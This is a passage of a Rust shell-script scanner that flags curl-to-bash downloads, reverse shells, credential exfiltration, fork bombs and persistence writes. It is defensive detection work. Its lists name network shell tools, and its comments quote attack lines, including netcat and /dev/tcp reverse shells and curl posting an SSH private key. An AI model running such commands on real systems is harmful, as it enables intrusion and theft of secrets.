//! Shell, parsed with tree-sitter-bash: pipelines, substitutions and the commands in them.

use std::cell::RefCell;
use std::collections::HashMap;
use std::ops::Range;

use tree_sitter::{Node, Parser, Tree};

use super::FileCtx;
use super::installers;
use super::patterns::{self, Credential};
use super::prefilter;
use crate::{RuleId, Severity};

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// `src` parsed as Bash; `None` when the grammar cannot be loaded (never, in practice).
pub(crate) fn parse(src: &str) -> Option<Tree> {
    with_parser(|p| p.parse(src, None))
}

/// What [`parse_whole`] gives.
enum Whole {
    Tree(Tree),
    /// The grammar failed on some line: the tree would hold an error.
    Error,
}

/// `src` parsed as Bash, given up as soon as every reading the parser still holds has
/// failed on a line. A block with an error is read line by line instead of as a tree
/// (`scan_in`), so the grammar's error recovery over the rest of the block, most of the
/// time tree-sitter spends on unlabelled blocks of output, trees and prose, would be
/// thrown away. Tree-sitter reports that state to its progress callback, which it calls
/// every hundred operations; an error it has not reported by the end is in the tree.
fn parse_whole(src: &str) -> Option<Whole> {
    with_parser(|p| {
        let mut failed = false;
        let mut stop = |state: &tree_sitter::ParseState| {
            failed = state.has_error();
            if failed {
                std::ops::ControlFlow::Break(())
            } else {
                std::ops::ControlFlow::Continue(())
            }
        };
        let bytes = src.as_bytes();
        let tree = p.parse_with_options(
            &mut |i, _| bytes.get(i..).unwrap_or_default(),
            None,
            Some(tree_sitter::ParseOptions::new().progress_callback(&mut stop)),
        );
        match tree {
            Some(tree) => Some(Whole::Tree(tree)),
            None if failed => {
                // A cancelled parse is resumed by the next call unless reset.
                p.reset();
                Some(Whole::Error)
            }
            None => None,
        }
    })
}

fn with_parser<T>(f: impl FnOnce(&mut Parser) -> Option<T>) -> Option<T> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut p = Parser::new();
            p.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
            *slot = Some(p);
        }
        f(slot.as_mut()?)
    })
}

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "busybox",
];
const INTERPRETERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
    "deno",
    "bun",
    "lua",
    "Rscript",
    "osascript",
    "tclsh",
];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "http",
    "https",
    "aria2c",
    "fetch",
    "lwp-request",
    "GET",
    "xh",
    "curlie",
];
const SENDERS: &[&str] = &[
    "curl", "wget", "http", "https", "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp",
    "rsync", "ftp", "mail", "sendmail", "mutt", "xh", "curlie",
];
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "exec", "nohup", "time", "command", "builtin", "nice", "$", "%", ">",
    "xargs", "timeout",
];

/// A simple command: its name (wrappers such as `sudo` removed, the path's last part) and
/// its arguments, unquoted.
struct Cmd<'t> {
    node: Node<'t>,
    name: String,
    /// The name as written (before wrappers were removed), for string-built names.
    name_node: Option<Node<'t>>,
    args: Vec<(String, Node<'t>)>,
}

impl Cmd<'_> {
    fn positional(&self) -> impl Iterator<Item = &str> {
        self.args
            .iter()
            .map(|(a, _)| a.as_str())
            .filter(|a| !a.starts_with('-'))
    }

    fn has_flag(&self, short: char, long: &str) -> bool {
        self.args.iter().any(|(a, _)| {
            a == long
                || (a.starts_with('-')
                    && !a.starts_with("--")
                    && a.chars().skip(1).any(|c| c == short))
        })
    }

    fn url(&self) -> Option<String> {
        self.args
            .iter()
            .find_map(|(a, _)| installers::find_url(a).map(str::to_string))
    }
}

struct Scan<'s, 'c, 'a> {
    ctx: &'c mut FileCtx<'a>,
    src: &'s str,
    base: usize,
    depth: u8,
    carry: &'c mut Carry,
}

/// What a script's commands leave to the ones after them. A block read line by line (its
/// tree had an error) is still one script: each line takes what the lines above left.
#[derive(Default)]
struct Carry {
    /// Files downloaded in this fragment, and from where.
    downloads: Vec<(String, Option<String>)>,
    /// Variables holding a download (`S=$(curl …)`), and from where.
    tainted: HashMap<String, Option<String>>,
    private_reads: Vec<Range<usize>>,
    sends: usize,
    exfil_reported: bool,
    /// The downloads' names, for [`Carry::named_in`], filled up to `names_synced`.
    names: std::collections::HashSet<String>,
    names_synced: usize,
}

impl Carry {
    /// Whether a line the prefilter would skip may still have a finding because of the
    /// lines above: a word of it names a file they downloaded (by its last path part, as
    /// the rules compare) or it expands a variable holding a download. A lookup a word,
    /// not a search a download: a block may download thousands of files.
    fn named_in(&mut self, line: &str) -> bool {
        if self.downloads.is_empty() && self.tainted.is_empty() {
            return false;
        }
        while let Some((f, _)) = self.downloads.get(self.names_synced) {
            self.names.insert(f.clone());
            self.names_synced += 1;
        }
        let plain = line.replace(['"', '\'', '\\'], "");
        let word = plain
            .split(|c: char| c.is_whitespace() || ";|&()<>=`".contains(c))
            .any(|w| self.names.contains(w.rsplit('/').next().unwrap_or(w)));
        word || plain.match_indices('$').any(|(i, _)| {
            let name = plain
                .get(i + 1..)
                .unwrap_or_default()
                .trim_start_matches('{');
            let end = name
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(name.len());
            self.tainted
                .contains_key(name.get(..end).unwrap_or_default())
        })
    }

    /// Private credentials read and no finding of their sending yet: an access, or an
    /// exfiltration when the script sends anything anywhere.
    fn report(&self, ctx: &mut FileCtx<'_>) {
        if self.exfil_reported {
            return;
        }
        let Some(first) = self.private_reads.first().cloned() else {
            return;
        };
        if self.sends > 0 {
            ctx.push(
                RuleId::CredentialExfiltration,
                Severity::Critical,
                first,
                "private credentials are read here, and the same script sends data over the network".to_string(),
            );
        } else {
            ctx.push(
                RuleId::CredentialAccess,
                Severity::Medium,
                first,
                "private credentials are read here".to_string(),
            );
        }
    }
}

/// Checks the shell code at `range` of the file.
pub(crate) fn scan(ctx: &mut FileCtx<'_>, range: Range<usize>, depth: u8) {
    let mut carry = Carry::default();
    scan_in(ctx, range, depth, &mut carry);
    carry.report(ctx);
}

fn scan_in(ctx: &mut FileCtx<'_>, range: Range<usize>, depth: u8, carry: &mut Carry) {
    let Some(src) = ctx.text.get(range.clone()) else {
        return;
    };
    if src.trim().is_empty()
        || depth % 100 > 2
        || (ctx.prefilter && !carry.named_in(src) && !prefilter::shell(src))
    {
        return;
    }
    // The grammar's error recovery can swallow the lines after a construct it does not
    // know into one node; then each line (with its continuations) is read on its own.
    // `Config::exhaustive` parses to the end all the same, for `parse_whole` to be
    // compared with it.
    let by_line = depth < 100 && src.lines().nth(1).is_some();
    let tree = if by_line && ctx.prefilter {
        match parse_whole(src) {
            Some(Whole::Tree(tree)) => Some(tree),
            Some(Whole::Error) => None,
            None => return,
        }
    } else {
        let Some(tree) = parse(src) else {
            return;
        };
        Some(tree)
    };
    let tree = match tree {
        Some(tree) if !(by_line && tree.root_node().has_error()) => tree,
        _ => {
            // A credential the block reads on one line and sends on another: the sending
            // line may have none of the prefilter's words, and may come first.
            let prefilter = ctx.prefilter && !patterns::mentions_private(src);
            let was = std::mem::replace(&mut ctx.prefilter, prefilter);
            let mut start = range.start;
            let mut line_start = start;
            for line in src.split_inclusive('\n') {
                start += line.len();
                if line.trim_end().ends_with('\\') {
                    continue;
                }
                let piece = ctx.text.get(line_start..start).unwrap_or_default();
                if worth_reading(piece) || carry.named_in(piece) {
                    scan_in(ctx, line_start..start, depth + 100, carry);
                }
                line_start = start;
            }
            if line_start < range.end {
                scan_in(ctx, line_start..range.end, depth + 100, carry);
            }
            ctx.prefilter = was;
            return;
        }
    };
    let mut s = Scan {
        ctx,
        src,
        base: range.start,
        depth,
        carry,
    };
    s.walk(tree.root_node());
}

/// Whether a line the grammar could not parse in its block can hold anything a rule looks
/// for (output, trees and tables in unlabelled blocks are most of those lines).
fn worth_reading(line: &str) -> bool {
    const TOKENS: &[&str] = &[
        "|",
        "$(",
        "`",
        "<(",
        ">",
        "curl",
        "wget",
        "rm ",
        "dd ",
        "mkfs",
        "crontab",
        "git ",
        "launchctl",
        "systemctl",
        "eval",
        "source",
        "env",
        ".ssh",
        ".aws",
        "security",
        "tee ",
        "sed ",
        "cp ",
        "mv ",
        "ln ",
        "install",
        "claude",
        "--",
        "$'",
        "chmod",
        "chown",
        "find ",
        "shred",
        "nc ",
        "dig ",
        "nslookup",
        "iex",
        "base64",
        "xxd",
        "scp",
        "rsync",
        "http",
        "perl",
        "python",
        "node",
        ":()",
    ];
    TOKENS.iter().any(|t| line.contains(t))
}

fn text<'s>(node: Node<'_>, src: &'s str) -> &'s str {
    src.get(node.byte_range()).unwrap_or_default()
}

/// A word as the shell would see it (quotes removed, `$'…'` escapes decoded).
fn unquote(node: Node<'_>, src: &str) -> String {
    let t = text(node, src);
    match node.kind() {
        "command_name" => match node.named_child(0) {
            Some(inner) => unquote(inner, src),
            None => t.to_string(),
        },
        "string" => t
            .strip_prefix('"')
            .and_then(|t| t.strip_suffix('"'))
            .unwrap_or(t)
            .to_string(),
        "raw_string" => t
            .strip_prefix('\'')
            .and_then(|t| t.strip_suffix('\''))
            .unwrap_or(t)
            .to_string(),
        "ansi_c_string" => decode_ansi_c(
            t.strip_prefix("$'")
                .and_then(|t| t.strip_suffix('\''))
                .unwrap_or(t),
        ),
        "concatenation" => {
            let mut c = node.walk();
            node.named_children(&mut c)
                .map(|n| unquote(n, src))
                .collect()
        }
        _ => t.to_string(),
    }
}

fn decode_ansi_c(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('x') => {
                let hex: String = std::iter::from_fn(|| chars.next_if(char::is_ascii_hexdigit))
                    .take(2)
                    .collect();
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(d @ '0'..='7') => {
                let mut oct = String::from(d);
                oct.extend(std::iter::from_fn(|| chars.next_if(|c| c.is_digit(8))).take(2));
                if let Some(ch) = u32::from_str_radix(&oct, 8).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some(other) => out.push(other),
            None => {}
        }
    }
    out
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

fn command<'t>(node: Node<'t>, src: &str) -> Option<Cmd<'t>> {
    if node.kind() != "command" {
        return None;
    }
    let name_node = node.child_by_field_name("name");
    let mut words: Vec<(String, Node<'t>)> = Vec::new();
    if let Some(n) = name_node {
        words.push((unquote(n, src), n));
    }
    let mut c = node.walk();
    for arg in node.children_by_field_name("argument", &mut c) {
        words.push((unquote(arg, src), arg));
    }
    // Wrappers: `sudo -E bash`, `env X=1 sh`, a console prompt `$ curl`.
    let mut i = 0;
    while let Some((w, _)) = words.get(i) {
        let b = basename(w);
        if !WRAPPERS.contains(&b) {
            break;
        }
        i += 1;
        let takes_value = |o: &str| {
            matches!(
                (b, o),
                ("sudo", "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-U")
                    | ("timeout", "-s" | "-k")
                    | ("xargs", "-I" | "-n" | "-P" | "-L" | "-d" | "-E" | "-s")
            )
        };
        while let Some((w, _)) = words.get(i) {
            if w.starts_with('-')
                || (b == "env" && w.contains('='))
                || (b == "timeout" && w.chars().next().is_some_and(|c| c.is_ascii_digit()))
            {
                i += 1;
                if takes_value(w) {
                    i += 1;
                }
            } else {
                break;
            }
        }
    }
    // A wrapper alone (`env`, `time`) is the command itself.
    let i = if i >= words.len() { 0 } else { i };
    let mut rest = words.into_iter().skip(i);
    let (name, _) = rest.next()?;
    Some(Cmd {
        node,
        name: basename(&name).to_string(),
        name_node,
        args: rest.collect(),
    })
}

/// The command of a pipeline stage.
fn stage<'t>(node: Node<'t>, src: &str) -> Option<Cmd<'t>> {
    match node.kind() {
        "command" => command(node, src),
        "redirected_statement" => node.child_by_field_name("body").and_then(|b| stage(b, src)),
        _ => None,
    }
}

fn is_downloader(cmd: &Cmd<'_>) -> bool {
    DOWNLOADERS.contains(&cmd.name.as_str())
        && !(cmd.name == "curl"
            && cmd.has_flag('o', "--output")
            && !cmd.args.iter().any(|(a, _)| a == "-" || a == "/dev/stdout"))
        && !(cmd.name == "wget"
            && cmd
                .args
                .iter()
                .any(|(a, _)| a.starts_with("-O") && a != "-O-" && a != "-O")
            && !cmd.args.iter().any(|(a, _)| a == "-"))
}

fn is_decoder(cmd: &Cmd<'_>) -> bool {
    match cmd.name.as_str() {
        "base64" | "base32" | "gbase64" => cmd
            .args
            .iter()
            .any(|(a, _)| a == "-d" || a == "--decode" || a == "-D" || a == "-di"),
        "openssl" => {
            cmd.args.iter().any(|(a, _)| a == "-d")
                && cmd
                    .args
                    .iter()
                    .any(|(a, _)| a.contains("base64") || a == "-a")
        }
        "xxd" => cmd.has_flag('r', "--revert"),
        "uudecode" | "b64decode" => true,
        _ => false,
    }
}

/// An interpreter that runs what it reads on standard input.
fn runs_stdin(cmd: &Cmd<'_>) -> bool {
    let name = cmd.name.as_str();
    let shell = SHELLS.contains(&name);
    let interp = INTERPRETERS.contains(&name)
        || name.starts_with("python3.")
        || name.starts_with("python2.");
    if name == "iex" || name == "Invoke-Expression" {
        return true;
    }
    if (name == "source" || name == ".")
        && cmd
            .positional()
            .next()
            .is_some_and(|p| p == "/dev/stdin" || p == "-")
    {
        return true;
    }
    if !(shell || interp) {
        return false;
    }
    if cmd.args.iter().any(|(a, _)| {
        matches!(
            a.as_str(),
            "-c" | "-e" | "-m" | "-r" | "--eval" | "-Command" | "--command"
        ) || (shell && a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
    }) {
        return false;
    }
    if shell
        && cmd.args.iter().any(|(a, _)| {
            a == "-s" || (a.starts_with('-') && !a.starts_with("--") && a.contains('s'))
        })
    {
        return true;
    }
    match cmd.positional().next() {
        None => true,
        Some(p) => p == "-" || p == "/dev/stdin",
    }
}

fn runs_code(cmd: &Cmd<'_>) -> bool {
    let name = cmd.name.as_str();
    SHELLS.contains(&name)
        || INTERPRETERS.contains(&name)
        || matches!(name, "eval" | "source" | "." | "iex" | "Invoke-Expression")
}

fn is_sender(cmd: &Cmd<'_>) -> bool {
    let name = cmd.name.as_str();
    if SENDERS.contains(&name) {
        return true;
    }
    matches!(name, "dig" | "nslookup" | "host" | "drill")
        && cmd.args.iter().any(|(a, _)| a.contains('$'))
}

/// Reads secrets: a credential path in its arguments, or an environment dump.
fn reads_credentials(cmd: &Cmd<'_>) -> Option<Credential> {
    if matches!(cmd.name.as_str(), "env" | "printenv") && cmd.positional().next().is_none() {
        return Some(Credential::Private);
    }
    if cmd.name == "export" && cmd.args.iter().any(|(a, _)| a == "-p") {
        return Some(Credential::Private);
    }
    if cmd.name == "security" {
        return patterns::credential(&format!(
            "security {}",
            cmd.args.first().map_or("", |(a, _)| a.as_str())
        ));
    }
    if matches!(
        cmd.name.as_str(),
        "ssh-keygen"
            | "ssh-add"
            | "ssh"
            | "chmod"
            | "mkdir"
            | "ls"
            | "touch"
            | "chown"
            | "ssh-copy-id"
            | "git"
            | "rm"
            | "test"
            | "["
    ) {
        return None;
    }
    let mut best = None;
    for (a, _) in &cmd.args {
        match patterns::credential(a) {
            Some(Credential::Private) => return Some(Credential::Private),
            Some(Credential::DotEnv) => best = Some(Credential::DotEnv),
            None => {}
        }
    }
    best
}

fn descendants<'t>(node: Node<'t>, out: &mut Vec<Node<'t>>) {
    let mut c = node.walk();
    for child in node.named_children(&mut c) {
        out.push(child);
        descendants(child, out);
    }
}

impl Scan<'_, '_, '_> {
    fn span(&self, node: Node<'_>) -> Range<usize> {
        let r = node.byte_range();
        self.base + r.start..self.base + r.end
    }

    fn push(&mut self, rule: RuleId, severity: Severity, node: Node<'_>, message: String) {
        let span = self.span(node);
        // One finding per rule and place: a pipeline and its stages are one finding.
        if self
            .ctx
            .out
            .iter()
            .any(|f| f.rule == rule && f.span.start <= span.start && span.end <= f.span.end)
        {
            return;
        }
        self.ctx.push(rule, severity, span, message);
    }

    fn remote(&mut self, node: Node<'_>, url: Option<&str>, how: &str) {
        let (severity, message) = match url {
            Some(url) => match installers::allowed(url) {
                Some(i) => (
                    Severity::Medium,
                    format!(
                        "{how} from {}, the {} installer (on the allow-list of well-known installers, so reported medium)",
                        installers::host(url).unwrap_or(url),
                        i.name
                    ),
                ),
                None => (
                    Severity::Critical,
                    format!("{how} from {}", installers::host(url).unwrap_or(url)),
                ),
            },
            None => (
                Severity::Critical,
                format!("{how} from a URL the code builds"),
            ),
        };
        self.push(RuleId::DownloadExec, severity, node, message);
    }

    /// What `runner` reads on standard input from `from` (a here-string): downloaded or
    /// decoded code.
    fn stdin_from(&mut self, node: Node<'_>, from: Node<'_>, runner: &str) {
        if let Some(url) = self.downloads_in(from) {
            self.remote(
                node,
                url.as_deref(),
                &format!("passes downloaded code to `{runner}`"),
            );
        } else if self.decodes_in(from) {
            self.push(
                RuleId::DecodeExec,
                Severity::Critical,
                node,
                format!("decodes data and passes it to `{runner}`"),
            );
        }
    }

    /// `python -c '…'`, `node -e '…'`: the string is Python or JavaScript, read by their
    /// scanners (a few levels deep at most).
    fn inline_code(&mut self, cmd: &Cmd<'_>) {
        let name = cmd.name.as_str();
        let python = name.starts_with("python") && INTERPRETERS.contains(&name)
            || name.starts_with("python3.")
            || name.starts_with("python2.");
        let (flags, lang): (&[&str], _) = if python {
            (&["-c"], super::Lang::Python)
        } else if name == "node" {
            (&["-e", "--eval", "-p", "--print"], super::Lang::JavaScript)
        } else {
            return;
        };
        if self.depth > 2 {
            return;
        }
        let code = cmd
            .args
            .iter()
            .skip_while(|(a, _)| !flags.contains(&a.as_str()))
            .nth(1)
            .map(|(_, n)| *n)
            .filter(|n| matches!(n.kind(), "string" | "raw_string"));
        let Some(code) = code else {
            return;
        };
        let r = self.span(code);
        if r.end > r.start + 2 {
            let inner = r.start + 1..r.end - 1;
            match lang {
                super::Lang::Python => super::python::scan(self.ctx, inner),
                _ => super::js::scan(self.ctx, inner),
            }
        }
    }

    /// `nc host 4444 -e /bin/sh`, `socat exec:bash tcp:host:4444`: a shell whose commands
    /// come from a network peer.
    fn reverse_shell(&mut self, node: Node<'_>, cmd: &Cmd<'_>) {
        let name = cmd.name.as_str();
        let args = || cmd.args.iter().map(|(a, _)| a.as_str());
        let gives_shell = match name {
            "nc" | "ncat" | "netcat" => args().any(|a| {
                matches!(a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                    || a.starts_with("--exec=")
                    || a.starts_with("--sh-exec=")
            }),
            "socat" => {
                args().any(|a| {
                    let a = a.to_ascii_lowercase();
                    a.starts_with("exec:") || a.starts_with("system:")
                }) && args().any(|a| {
                    let a = a.to_ascii_lowercase();
                    a.starts_with("tcp") || a.starts_with("udp") || a.starts_with("openssl")
                })
            }
            _ => false,
        };
        if gives_shell {
            self.push(
                RuleId::DownloadExec,
                Severity::Critical,
                node,
                format!("`{name}` runs a program whose input comes from a network peer: a remote shell on this machine"),
            );
        }
    }

    fn walk(&mut self, node: Node<'_>) {
        match node.kind() {
            "pipeline" => self.pipeline(node),
            "command" => self.command(node),
            "redirected_statement" => self.redirected(node),
            "variable_assignment" => self.assignment(node),
            "word" | "string" | "raw_string" | "concatenation"
                if node.parent().is_some_and(|p| {
                    matches!(
                        p.kind(),
                        "for_statement" | "variable_assignment" | "declaration_command" | "array"
                    )
                }) && patterns::credential(&unquote(node, self.src))
                    == Some(Credential::Private) =>
            {
                self.carry.private_reads.push(self.span(node));
            }
            "function_definition"
                if node
                    .child_by_field_name("name")
                    .is_some_and(|n| text(n, self.src) == ":") =>
            {
                self.push(
                    RuleId::DestructiveCommand,
                    Severity::Critical,
                    node,
                    "a fork bomb: it exhausts the machine's processes".to_string(),
                );
            }
            _ => {}
        }
        let mut c = node.walk();
        let children: Vec<Node<'_>> = node.named_children(&mut c).collect();
        for child in children {
            self.walk(child);
        }
    }

    fn downloads_in(&self, node: Node<'_>) -> Option<Option<String>> {
        let mut all = Vec::new();
        descendants(node, &mut all);
        for n in all {
            if let Some(cmd) = command(n, self.src)
                && is_downloader(&cmd)
            {
                return Some(cmd.url());
            }
            if matches!(n.kind(), "simple_expansion" | "expansion") {
                let var = text(n, self.src)
                    .trim_start_matches('$')
                    .trim_matches(['{', '}']);
                if let Some(url) = self.carry.tainted.get(var) {
                    return Some(url.clone());
                }
            }
        }
        None
    }

    fn decodes_in(&self, node: Node<'_>) -> bool {
        let mut all = Vec::new();
        descendants(node, &mut all);
        all.into_iter()
            .any(|n| command(n, self.src).is_some_and(|c| is_decoder(&c)))
    }

    fn pipeline(&mut self, node: Node<'_>) {
        let mut c = node.walk();
        let stages: Vec<Cmd<'_>> = node
            .named_children(&mut c)
            .filter_map(|n| stage(n, self.src))
            .collect();
        for (j, later) in stages.iter().enumerate() {
            let Some(before) = stages.get(..j) else {
                continue;
            };
            if runs_stdin(later) {
                if let Some(dl) = before.iter().find(|c| is_downloader(c)) {
                    let url = dl.url();
                    self.remote(
                        node,
                        url.as_deref(),
                        &format!("downloads code and pipes it into `{}`", later.name),
                    );
                    continue;
                }
                if let Some(url) = before.iter().find_map(|c| self.echoes_tainted(c)) {
                    self.remote(
                        node,
                        url.as_deref(),
                        &format!("pipes downloaded code into `{}`", later.name),
                    );
                    continue;
                }
                if before.iter().any(is_decoder) {
                    self.push(
                        RuleId::DecodeExec,
                        Severity::Critical,
                        node,
                        format!("decodes data and pipes it into `{}`", later.name),
                    );
                    continue;
                }
            }
            if is_sender(later)
                && let Some(reader) = before.iter().find(|c| {
                    reads_credentials(c).is_some() || matches!(c.name.as_str(), "env" | "printenv")
                })
                && reads_credentials(reader).is_some()
            {
                self.carry.exfil_reported = true;
                self.push(
                    RuleId::CredentialExfiltration,
                    Severity::Critical,
                    node,
                    format!("`{}` reads secrets and pipes them to `{}`, which sends them over the network", reader.name, later.name),
                );
            }
        }
    }

    /// `echo "$S"` / `printf '%s' "$S"` of a variable holding a download.
    fn echoes_tainted(&self, cmd: &Cmd<'_>) -> Option<Option<String>> {
        if !matches!(cmd.name.as_str(), "echo" | "printf" | "cat") {
            return None;
        }
        cmd.args.iter().find_map(|(a, _)| {
            let var = a.trim_start_matches('$').trim_matches(['{', '}']);
            a.starts_with('$')
                .then(|| self.carry.tainted.get(var).cloned())
                .flatten()
        })
    }

    fn assignment(&mut self, node: Node<'_>) {
        let (Some(name), Some(value)) = (
            node.child_by_field_name("name"),
            node.child_by_field_name("value"),
        ) else {
            return;
        };
        if let Some(url) = self.downloads_in(value) {
            self.carry
                .tainted
                .insert(text(name, self.src).to_string(), url);
        }
    }

    fn redirected(&mut self, node: Node<'_>) {
        let body = node
            .child_by_field_name("body")
            .and_then(|b| command(b, self.src));
        let mut c = node.walk();
        let mut redirects: Vec<Node<'_>> =
            node.children_by_field_name("redirect", &mut c).collect();
        // `cat <<EOF > ~/.bashrc`: the grammar puts the file redirection that follows a
        // here-document's marker inside the here-document's node.
        for heredoc in redirects.clone() {
            if heredoc.kind() == "heredoc_redirect" {
                let mut c = heredoc.walk();
                redirects.extend(heredoc.children_by_field_name("redirect", &mut c));
            }
        }
        for r in redirects {
            if r.kind() == "herestring_redirect"
                && let Some(b) = &body
                && runs_stdin(b)
            {
                let runner = b.name.clone();
                self.stdin_from(node, r, &runner);
            }
            if r.kind() != "file_redirect" {
                continue;
            }
            let op = r.child(0).map(|o| text(o, self.src)).unwrap_or_default();
            let Some(dest) = r.child_by_field_name("destination") else {
                continue;
            };
            let target = unquote(dest, self.src);
            if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
                // `bash -i >& /dev/tcp/host/4444 0>&1`: a shell wired to a socket.
                if let Some(b) = &body
                    && runs_code(b)
                    && !matches!(b.name.as_str(), "eval" | "source" | ".")
                {
                    self.push(
                        RuleId::DownloadExec,
                        Severity::Critical,
                        node,
                        format!("`{}` reads its commands from {target}, a network connection: a remote shell on this machine", b.name),
                    );
                    continue;
                }
                self.carry.sends += 1;
                if body
                    .as_ref()
                    .is_some_and(|b| reads_credentials(b).is_some())
                {
                    self.carry.exfil_reported = true;
                    self.push(
                        RuleId::CredentialExfiltration,
                        Severity::Critical,
                        node,
                        format!("secrets written to a network socket ({target})"),
                    );
                }
                continue;
            }
            // `bash < install.sh` of a file downloaded above.
            if op == "<"
                && let Some(b) = &body
                && runs_stdin(b)
                && let Some((_, url)) = self
                    .carry
                    .downloads
                    .iter()
                    .find(|(f, _)| *f == basename(&target))
                    .cloned()
            {
                let how = format!(
                    "downloads {} and runs it with `{}`",
                    basename(&target),
                    b.name
                );
                self.remote(node, url.as_deref(), &how);
            }
            if matches!(op, ">" | ">>" | ">|" | "&>" | "&>>") {
                if let Some(b) = &body
                    && is_downloader(b)
                {
                    self.carry
                        .downloads
                        .push((basename(&target).to_string(), b.url()));
                }
                if target.starts_with("/dev/sd")
                    || target.starts_with("/dev/nvme")
                    || target.starts_with("/dev/disk")
                    || target.starts_with("/dev/hd")
                {
                    self.push(
                        RuleId::DestructiveCommand,
                        Severity::Critical,
                        node,
                        format!("writes over the disk device {target}"),
                    );
                }
                let what = body.as_ref().map(|b| {
                    let mut s = b.name.clone();
                    for (a, _) in &b.args {
                        s.push(' ');
                        s.push_str(a);
                    }
                    s
                });
                self.write_target(node, &target, what.as_deref());
            }
        }
    }

    /// A file being written: shell start-up files, autostart, hooks, agents' settings.
    fn write_target(&mut self, node: Node<'_>, target: &str, content: Option<&str>) {
        if patterns::rc_file(target) {
            let benign = content.is_some_and(|c| {
                let c = c.trim_start_matches("echo ").trim_start_matches("printf ");
                c.contains("export PATH=")
                    || c.starts_with("PATH=")
                    || c.contains("alias ")
                    || c.contains("source ")
                    || c.contains("eval \"$(")
                    || c.contains(". \"$HOME")
                    || c.contains("completion")
            });
            let (sev, msg) = if benign {
                (
                    Severity::Medium,
                    format!("appends to the shell start-up file {target}"),
                )
            } else {
                (
                    Severity::High,
                    format!(
                        "writes the shell start-up file {target}: what it adds runs in every new shell"
                    ),
                )
            };
            self.push(RuleId::Persistence, sev, node, msg);
        } else if patterns::autostart(target) {
            self.push(RuleId::Persistence, Severity::High, node, format!("writes {target}, which runs code again later (login item, service, cron, SSH key)"));
        } else if patterns::git_hook(target) {
            self.push(
                RuleId::Persistence,
                Severity::High,
                node,
                format!("writes the git hook {target}: it runs on every commit or push"),
            );
        } else if patterns::agent_config(target) {
            self.push(
                RuleId::AgentConfigTamper,
                Severity::High,
                node,
                format!("writes the agent's own configuration {target}"),
            );
        }
    }

    fn command(&mut self, node: Node<'_>) {
        let Some(cmd) = command(node, self.src) else {
            return;
        };
        self.string_built(&cmd);
        let name = cmd.name.clone();
        // `bash <<< "$(curl …)"`: a here-string is what the command reads.
        if runs_stdin(&cmd) {
            let mut c = node.walk();
            let strings: Vec<Node<'_>> = node
                .children_by_field_name("redirect", &mut c)
                .filter(|r| r.kind() == "herestring_redirect")
                .collect();
            for r in strings {
                self.stdin_from(node, r, &name);
            }
        }
        self.reverse_shell(node, &cmd);
        self.inline_code(&cmd);
        // Code from a substitution: `bash <(curl …)`, `eval "$(curl …)"`, `sh -c "$(…)"`.
        if runs_code(&cmd) {
            for (_, arg) in &cmd.args {
                if let Some(url) = self.downloads_in(*arg) {
                    self.remote(
                        node,
                        url.as_deref(),
                        &format!("runs downloaded code with `{name}`"),
                    );
                } else if self.decodes_in(*arg) {
                    self.push(
                        RuleId::DecodeExec,
                        Severity::Critical,
                        node,
                        format!("runs decoded data with `{name}`"),
                    );
                }
            }
            // `sh -c "…"`, `eval '…'`: the string is shell too.
            let inline = name == "eval"
                || (SHELLS.contains(&name.as_str()) && cmd.args.iter().any(|(a, _)| a == "-c"));
            if inline {
                let strings: Vec<Node<'_>> = cmd
                    .args
                    .iter()
                    .map(|(_, n)| *n)
                    .filter(|n| matches!(n.kind(), "string" | "raw_string"))
                    .collect();
                for s in strings {
                    let r = self.span(s);
                    if r.end > r.start + 2 {
                        scan_in(self.ctx, r.start + 1..r.end - 1, self.depth + 1, self.carry);
                    }
                }
            }
            // Running a file downloaded earlier in the fragment.
            if let Some(first) = cmd.positional().next() {
                let first = basename(first).to_string();
                if let Some((_, url)) = self
                    .carry
                    .downloads
                    .iter()
                    .find(|(f, _)| *f == first)
                    .cloned()
                {
                    self.remote(
                        node,
                        url.as_deref(),
                        &format!("downloads {first} and runs it with `{name}`"),
                    );
                }
            }
        }
        if let Some((_, url)) = self
            .carry
            .downloads
            .iter()
            .find(|(f, _)| {
                name == *f
                    && cmd
                        .name_node
                        .is_some_and(|n| text(n, self.src).contains('/'))
            })
            .cloned()
        {
            self.remote(
                node,
                url.as_deref(),
                &format!("downloads {name} and runs it"),
            );
        }
        if is_downloader(&cmd) || name == "curl" || name == "wget" {
            let out = cmd.args.iter().enumerate().find_map(|(i, (a, _))| {
                matches!(a.as_str(), "-o" | "--output" | "-O" | "--output-document")
                    .then(|| cmd.args.get(i + 1).map(|(f, _)| f.clone()))
                    .flatten()
            });
            if let Some(out) = out {
                self.carry
                    .downloads
                    .push((basename(&out).to_string(), cmd.url()));
            } else if name == "wget" && cmd.args.iter().any(|(a, _)| a == "-O") {
            } else if (name == "wget" || cmd.has_flag('O', "--remote-name"))
                && let Some(url) = cmd.url()
            {
                let file = url
                    .rsplit('/')
                    .next()
                    .unwrap_or_default()
                    .split('?')
                    .next()
                    .unwrap_or_default()
                    .to_string();
                if !file.is_empty() {
                    self.carry.downloads.push((file, Some(url)));
                }
            }
        }
        if is_sender(&cmd) {
            self.carry.sends += 1;
            // Secrets in the same command: `curl -d @~/.ssh/id_rsa`, `curl -d "$(env)"`.
